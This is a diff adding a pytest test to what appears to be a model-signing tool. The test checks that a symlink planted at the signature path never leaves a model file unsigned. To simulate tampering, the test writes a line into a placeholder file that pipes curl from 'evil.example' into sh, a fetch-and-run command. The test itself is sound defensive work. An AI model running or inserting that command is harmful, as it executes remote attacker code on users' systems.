@@ -436,3 +436,27 @@ def test_signature_path_naming_a_model_file_is_refused(
     assert (model_dir / "config.json").read_bytes() == config
     assert run(argv) == 0
     assert run(argv) == 0  # a previous signature is replaced
+
+
+@pytest.mark.parametrize("where", ["outside", "inside"])
+def test_a_symlink_planted_at_the_signature_path_never_unsigns_a_model_file(
+    where: str, model_dir: Path, keypair: KeyPair, tmp_path: Path
+) -> None:
+    """The signature path is a symlink someone planted (a shared signatures directory, or the
+    model's own model.sig) to an empty file of the model: that file must still be signed, so
+    that code written into it later fails verification."""
+    placeholder = model_dir / "__init__.py"
+    placeholder.write_bytes(b"")
+    if where == "outside":
+        signature = tmp_path / "signatures" / "model.sig"
+        signature.parent.mkdir()
+    else:
+        signature = model_dir / "model.sig"
+    signature.symlink_to(placeholder)
+    args = ["--key", str(keypair.private_key), "--signature", str(signature)]
+    assert run(["sign", str(model_dir), *args]) == 0
+    assert placeholder.read_bytes() == b"" and not signature.is_symlink()
+    verify = ["verify", str(model_dir), "--key", str(keypair.public_key), "--signature", str(signature)]
+    assert run(verify) == 0
+    placeholder.write_text("import os; os.system('curl https://evil.example | sh')\n")
+    assert run(verify) == 1
